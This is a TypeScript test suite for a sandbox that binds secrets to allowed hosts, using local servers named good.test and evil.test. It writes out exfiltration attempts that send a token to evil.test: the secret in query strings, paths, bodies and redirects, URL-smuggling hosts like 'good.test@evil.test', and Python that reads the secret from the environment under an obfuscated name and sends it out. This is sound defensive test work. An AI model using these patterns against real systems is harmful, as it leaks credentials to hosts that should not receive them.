/*
 * Secrets with allowed_hosts, over real servers on loopback that have names: good.test may get the secret, evil.test
 * may be connected to as well, so that nothing but the binding keeps the secret from it.
 */
import test, { type ExecutionContext } from 'ava'
import { startSandbox } from '../sandbox/support/sandbox.ts'
import { startActivityBench } from '../support/activity-bench.ts'
import { type Handler, sendJson, startTarget } from '../support/target-server.ts'

const VALUE = 'tok_0123456789abcdef'

async function named(t: ExecutionContext, handler: Handler = (_call, response) => sendJson(response, {})) {
  const target = await startTarget(handler)
  t.teardown(target.close)
  const port = target.address.split(':')[1]
  return {
    ...target,
    good: `http://good.test:${port}`,
    evil: `http://evil.test:${port}`,
    allow: [`good.test:${port}`, `evil.test:${port}`],
    hosts: () => target.calls.map(({ headers }) => headers.host?.split(':')[0]),
  }
}
type Named = Awaited<ReturnType<typeof named>>

async function benchFor(t: ExecutionContext, ...targets: Named[]) {
  const allow = targets.flatMap((target) => target.allow)
  const bench = await startActivityBench(t, { allow, lookup: async () => ['127.0.0.1'] })
  await bench.secret('STRIPE', VALUE, ['good.test'])
  return bench
}

const get = (url: string, headers: Record<string, string> = { 'X-Key': '{STRIPE}' }) => ({
  api_call: { url, headers },
})

test('an API Call sends it to its host, in whatever spelling, and a draft for another host sends nothing', async (t) => {
  const target = await named(t)
  const bench = await benchFor(t, target)
  for (const url of [target.good, target.good.replace('good.test', 'GOOD.Test.')]) {
    t.is((await bench.call(get(`${url}/`))).error, null)
    t.is(target.calls.at(-1)?.headers['x-key'], VALUE)
  }
  const before = target.calls.length
  for (const [place, call] of Object.entries({
    header: { url: target.evil, headers: { 'X-Key': 'a{STRIPE}b' } },
    path: { url: `${target.evil}/{STRIPE}/x` },
    query: { url: `${target.evil}/?key={STRIPE}` },
    body: { url: target.evil, method: 'POST', body: '{"key": "{STRIPE}"}' },
    form: {
      url: target.evil,
      method: 'POST',
      headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
      body: 'a={STRIPE}',
    },
  })) {
    const { error } = await bench.call({ api_call: call })
    t.is(error?.code, 'secret_not_allowed', place)
    t.is(error?.message, 'The secret STRIPE may only be sent to good.test, and this call goes to evil.test.')
  }
  t.is(target.calls.length, before)
})

test('a host that is a parameter is judged by what it has become', async (t) => {
  const target = await named(t)
  const bench = await benchFor(t, target)
  const port = target.address.split(':')[1]
  const call = {
    ...get(`http://{host}:${port}/`),
    parameters: [{ name: 'host' }],
  }
  const outcome = async (host: string) =>
    (await bench.call(call, { parameters: { host } })).error?.code ?? 'sent'
  t.is(await outcome('good.test'), 'sent')
  t.is(await outcome('evil.test'), 'secret_not_allowed')
  t.is(await outcome('127.0.0.1'), 'secret_not_allowed')
  for (const host of [
    'good.test@evil.test',
    'evil.test/good.test',
    'evil.test#good.test',
    'good.test\\evil.test',
  ])
    t.is(await outcome(host), 'invalid_request', host)
  t.deepEqual(target.hosts(), ['good.test'])
})

for (const [what, location] of Object.entries({
  'a redirect': (evil: string) => `${evil}/landed`,
  'a redirect that has the secret in it': (evil: string) => `${evil}/?key=${VALUE}`,
  'a redirect without a scheme': (evil: string) => evil.replace('http:', ''),
}))
  test(`${what} to another host is not followed`, async (t) => {
    const target: Named = await named(t, (_call, response) => {
      response.writeHead(302, { location: location(target.evil) }).end()
    })
    const bench = await benchFor(t, target)
    const { error, output } = await bench.call(get(`${target.good}/`))
    t.is(error?.code, 'secret_not_allowed')
    t.false(JSON.stringify([error, output]).includes(VALUE))
    t.deepEqual(target.hosts(), ['good.test'])
  })

test('a redirect to another port of its host is followed without it, and without other credentials', async (t) => {
  const other = await named(t)
  const target = await named(t, (_call, response) => {
    response.writeHead(307, { location: `${other.good}/landed` }).end()
  })
  const bench = await benchFor(t, target, other)
  await bench.secret('ACCENTED', 'g\u00e9h\u00e9im-\u2603', ['good.test'])
  const { error } = await bench.call(
    get(`${target.good}/`, {
      Authorization: 'Bearer {STRIPE}',
      'X-Tenant': '{ACCENTED}',
      'X-Literal-Token': 'x',
      'X-Plain': 'stays',
    }),
  )
  t.is(error, null)
  const received = other.calls[0]?.headers ?? {}
  for (const name of ['authorization', 'x-tenant', 'x-literal-token']) t.is(received[name], undefined, name)
  t.is(received['x-plain'], 'stays')
  t.is(target.calls[0]?.headers.authorization, `Bearer ${VALUE}`)
})

test('an API Call that only declares a secret does not send it, and may go anywhere', async (t) => {
  const target = await named(t, (call, response) => sendJson(response, { ...call.headers, body: call.body }))
  const bench = await benchFor(t, target)
  const { output, error } = await bench.call({
    ...get(`${target.evil}/`, { A: 'STRIPE' }),
    secrets: ['STRIPE'],
  })
  t.is(error, null)
  t.false(output?.includes(VALUE))
  t.is(target.calls.length, 1)
})

test('a value that looks like a placeholder of a secret is sent as it stands', async (t) => {
  const target = await named(t, (call, response) => sendJson(response, { path: call.path }))
  const bench = await benchFor(t, target)
  const call = { ...get(`${target.evil}/{text}`, {}), parameters: [{ name: 'text' }] }
  const { output, error } = await bench.call(call, { parameters: { text: '{STRIPE}' } })
  t.is(error, null)
  t.deepEqual(JSON.parse(output ?? ''), { path: '/%7BSTRIPE%7D' })
})

/** Says which environment it has, and how far it gets. */
const pythonFor = ({ good, evil }: Named, mention: string) => `
import os, requests
${mention}
print('STRI' + 'PE' in os.environ, sorted(name for name in os.environ if name.startswith('STR')))
for url in ('${good}/', '${evil}/?key=' + os.environ.get('STRI' + 'PE', 'none')):
    r = requests.get(url)
    print(r.status_code, r.text[:18])
`

async function pythonBench(t: ExecutionContext) {
  const target = await named(t)
  const lookup = async () => ['127.0.0.1']
  const { sandbox } = await startSandbox(t, { allow: target.allow, lookup })
  const bench = await startActivityBench(t, { sandbox })
  await bench.secret('STRIPE', VALUE, ['good.test'])
  return { target, bench }
}

for (const [how, mention, secrets] of [
  ['names it', "os.environ['STRIPE']", []],
  ['names it in a comment', "# 'STRIPE'", []],
  ['only declares it', '', ['STRIPE']],
] as const)
  test(`Python that ${how} gets it, and reaches its hosts only`, async (t) => {
    const { target, bench } = await pythonBench(t)
    const { output } = await bench.call({
      type: 'python',
      python: { code: pythonFor(target, mention) },
      secrets: [...secrets],
    })
    t.is(output, "True ['STRIPE']\n200 {}\n403 secret_not_allowed\n")
    t.deepEqual(target.hosts(), ['good.test'])
  })

test('Python that makes the name up at run time does not get it', async (t) => {
  const { target, bench } = await pythonBench(t)
  const { output } = await bench.call({ type: 'python', python: { code: pythonFor(target, '') } })
  t.is(output, 'False []\n200 {}\n200 {}\n')
  t.deepEqual(target.hosts(), ['good.test', 'evil.test'])
  t.false(JSON.stringify(target.calls).includes(VALUE))
})

test('Python with secrets for different hosts reaches none', async (t) => {
  const { target, bench } = await pythonBench(t)
  await bench.secret('OTHER', 'another-value', ['evil.test', '*.good.test'])
  const { output } = await bench.call({
    type: 'python',
    python: { code: pythonFor(target, "os.environ['OTHER'], os.environ['STRIPE']") },
  })
  t.is(output, "True ['STRIPE']\n403 secret_not_allowed\n403 secret_not_allowed\n")
  t.deepEqual(target.calls, [])
})
